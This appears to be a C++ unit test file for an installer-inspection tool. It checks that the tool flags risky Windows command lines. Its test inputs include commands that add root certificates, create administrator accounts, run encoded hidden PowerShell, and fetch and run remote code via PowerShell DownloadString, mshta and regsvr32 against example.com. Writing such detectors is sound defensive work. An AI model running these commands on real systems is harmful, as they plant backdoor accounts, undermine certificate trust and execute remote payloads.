#include "install/checks/commands.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "install/conclude.h"
#include "install/windows/command_line.h"
#include "install/windows/encoded.h"

namespace countersign::install {
namespace {

using model::Action;

// The findings on a command line, but for those that say what is started again.
std::vector<std::string> FindingsOn(const std::string& line) {
  model::Inspection inspection;
  inspection.artifacts.resize(1);
  Action action;
  TakeCommandLine(line, action);
  inspection.actions = {action};
  Conclude(inspection);
  std::vector<std::string> ids;
  for (const model::Finding& finding : inspection.findings) {
    ids.push_back(finding.id);
  }
  return ids;
}

TEST(Commands, ThatWeakenProtectionAreFound) {
  for (const char* line :
       {"certutil -addstore root a.cer", "certutil.exe -addstore -f root a.cer",
        R"(C:\Windows\System32\CertUtil.exe -f -AddStore "Root" "a b.cer")",
        "certutil /enterprise /addstore Root a.cer",
        R"("$INSTDIR\VBoxCertUtil.exe" add-trusted-publisher a.cer)",
        "powershell Import-Certificate -FilePath a.cer -CertStoreLocation "
        R"('Cert:\LocalMachine\Root')",
        "net user x secret /add", "net.exe USER x /ADD",
        "net1 user x secret /active:yes /add",
        "net localgroup administrators x /add",
        R"(cmd /c "net localgroup Administrators x /add > nul")"}) {
    EXPECT_EQ(FindingsOn(line),
              std::vector<std::string>{"install.weakens_protection"})
        << line;
  }
  for (const char* line :
       {"certutil -addstore my a.cer", "certutil -hashfile root.exe",
        "net user x", "net use x: /add", "net start addstore",
        "net localgroup users x /add",
        "netsh advfirewall firewall add rule name=x dir=in action=allow",
        R"(C:\add\root\setup.exe /add root)"}) {
    EXPECT_TRUE(FindingsOn(line).empty()) << line;
  }
}

TEST(Commands, ThatAreEncodedAreFound) {
  for (const char* line :
       {"powershell -e SQBFAFgA", "powershell.exe /e SQBFAFgA",
        "powershell -nop -w hidden -en SQBFAFgA", "pwsh -ec SQBFAFgA",
        "powershell -ExecutionPolicy Bypass -Enc SQBFAFgA",
        "powershell -encodedcomm SQBFAFgA",
        R"(cmd /c "powers^hell -e SQBFAFgA & exit")"}) {
    EXPECT_EQ(FindingsOn(line),
              std::vector<std::string>{"install.obscured_command"})
        << line;
  }
  for (const char* line :
       {"powershell -ep bypass -file a.ps1", "powershell -f a.ps1 -e b",
        "powershell -c dir -e b", "powershell a.ps1 b -e c", "powershell -e",
        "powershell -ex bypass a.ps1", "a.exe -e b"}) {
    EXPECT_TRUE(FindingsOn(line).empty()) << line;
  }
}

TEST(Commands, AreFoundInWhatIsEncoded) {
  // (New-Object Net.WebClient).DownloadString('http://example.com/a')
  const std::string line =
      "powershell -e "
      "KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4A"
      "RABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvAGUAeABhAG0A"
      "cABsAGUALgBjAG8AbQAvAGEAJwApAA==";
  model::Inspection inspection;
  inspection.artifacts.resize(1);
  Action action;
  TakeCommandLine(line, action);
  AddDecodedCommands(action);
  inspection.actions = {action};
  Conclude(inspection);
  ASSERT_EQ(inspection.findings.size(), 2U);
  EXPECT_EQ(inspection.findings[0].id, "install.downloads");
  EXPECT_EQ(inspection.findings[1].id, "install.obscured_command");
  for (const model::Finding& finding : inspection.findings) {
    EXPECT_TRUE(finding.message.contains(
        ". Decoded it reads: \"(New-Object Net.WebClient)."))
        << finding.message;
  }
}

TEST(Commands, ThatRunWhatTheyFetchAreFound) {
  for (const char* line :
       {"mshta http://example.com/a.hta", "mshta.exe \"https://example.com/a\"",
        "regsvr32 /s /n /u /i:http://example.com/a.sct scrobj.dll",
        "regsvr32 -s -i:\"https://example.com/a.sct\" scrobj.dll"}) {
    EXPECT_EQ(FindingsOn(line), std::vector<std::string>{"install.downloads"})
        << line;
  }
  EXPECT_TRUE(FindingsOn("regsvr32 /s /i:user a.dll").empty());
  EXPECT_TRUE(FindingsOn("mshta a.hta").empty());
}

TEST(Commands, ManyWordsTakeNoTime) {
  Action action;
  for (int i = 0; i < 200'000; ++i) {
    action.value += "powershell -a net certutil ";
  }
  EXPECT_FALSE(SaysEncodedCommand(action));
  constexpr CommandRow kRow{{"net", "net", "net", "net", "absent"}};
  EXPECT_FALSE(SaysAny(action, std::array{kRow}));
}

}  // namespace
}  // namespace countersign::install
